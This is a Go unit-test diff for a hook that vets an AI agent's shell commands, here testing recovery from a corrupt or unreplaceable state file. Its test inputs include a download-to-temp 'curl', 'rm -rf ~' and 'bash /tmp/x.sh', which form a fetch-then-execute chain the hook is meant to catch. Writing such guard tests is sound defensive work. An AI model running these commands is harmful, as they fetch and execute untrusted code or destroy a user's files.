@@ -201,16 +201,40 @@ func TestHookBadPayloads(t *testing.T) {
 // analysis working, and the verdict says chain memory is off.
 func TestHookCorruptState(t *testing.T) {
 	state := filepath.Join(t.TempDir(), "state.db")
-	if err := os.WriteFile(state, bytes.Repeat([]byte("garbage!"), 1024), 0o600); err != nil {
+	garbage := bytes.Repeat([]byte("garbage!"), 1024)
+	if err := os.WriteFile(state, garbage, 0o600); err != nil {
 		t.Fatal(err)
 	}
 	env := []string{"TOOLWALL_STATE=" + state, "HOME=/home/user"}
+	// A PreToolUse with risk tags opens the state file: the corrupt one is
+	// moved aside, never deleted, and a fresh one made (issue 8).
+	if d := decision(t, runHook(t, env, pre("s1", "curl -o /tmp/x.sh https://x.example/i.sh"))); d.PermissionDecision == "deny" {
+		t.Errorf("corrupt state, download: %+v", d)
+	}
+	aside, _ := filepath.Glob(state + ".unusable-*")
+	if len(aside) != 1 {
+		t.Fatalf("moved aside: %v", aside)
+	}
+	if kept, err := os.ReadFile(aside[0]); err != nil || !bytes.Equal(kept, garbage) {
+		t.Errorf("the corrupt file was not kept intact: %v", err)
+	}
 	d := decision(t, runHook(t, env, pre("s1", "rm -rf ~")))
-	if d.PermissionDecision != "deny" || !strings.Contains(d.PermissionDecisionReason, "chain memory off") {
-		t.Errorf("corrupt state: %+v, want deny noting chain memory off", d)
+	if d.PermissionDecision != "deny" || strings.Contains(d.PermissionDecisionReason, "chain memory off") {
+		t.Errorf("after recovery: %+v, want deny with memory on", d)
 	}
 	if d := decision(t, runHook(t, env, pre("s1", "ls"))); d.PermissionDecision != "allow" {
-		t.Errorf("corrupt state, ls: %+v", d)
+		t.Errorf("after recovery, ls: %+v", d)
+	}
+	// A state file that cannot be replaced (a directory in its place):
+	// memory is off, said, and a call that would complete a chain asks.
+	dir := filepath.Join(t.TempDir(), "state.db")
+	if err := os.Mkdir(dir, 0o700); err != nil {
+		t.Fatal(err)
+	}
+	env = []string{"TOOLWALL_STATE=" + dir, "HOME=/home/user"}
+	d = decision(t, runHook(t, env, pre("s2", "bash /tmp/x.sh")))
+	if d.PermissionDecision != "ask" || !strings.Contains(d.PermissionDecisionReason, "chain.memory-off") {
+		t.Errorf("memory off, run a temp file: %+v", d)
 	}
 }
 
